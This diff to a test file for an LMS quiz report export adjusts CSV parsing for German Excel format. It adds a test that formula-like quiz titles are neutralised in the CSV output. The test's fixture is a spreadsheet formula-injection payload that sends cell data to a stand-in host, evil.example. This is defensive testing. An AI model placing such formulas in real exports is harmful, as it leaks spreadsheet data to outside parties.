@@ -60,8 +60,9 @@ def quiz(world):
 
 
 def _csv(response):
-    text = b"".join(response.streaming_content).decode("utf-8")
-    return list(csv.reader(io.StringIO(text)))
+    # German Excel: UTF-8 with BOM, semicolons (lms.exports).
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text), delimiter=";"))
 
 
 def _xlsx(response):
@@ -195,3 +196,14 @@ def test_query_count_does_not_grow_with_quizzes(manager_client, world, quiz):
             attempt(more, world["ob"][3], passes=bool(number % 2))
     assert len(manager_client.get(reverse(REPORT)).context["object_list"]) == 9
     assert count() == before
+
+
+def test_export_neutralises_formulas_in_titles_and_writes_german_numbers(manager_client, quiz):
+    # Titles are typed by trainers; a title starting with "=" must not run as a formula.
+    quiz.title = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    quiz.save()
+    rows = _csv(manager_client.get(reverse(REPORT), {"export": "csv"}))
+    assert rows[1][2] == "'" + quiz.title
+    assert rows[1][-1] == "1,5"  # average attempts to pass: ob[0] needed 2, ob[1] 1
+    sheet = _xlsx(manager_client.get(reverse(REPORT), {"export": "xlsx"}))
+    assert sheet[1][2] == quiz.title
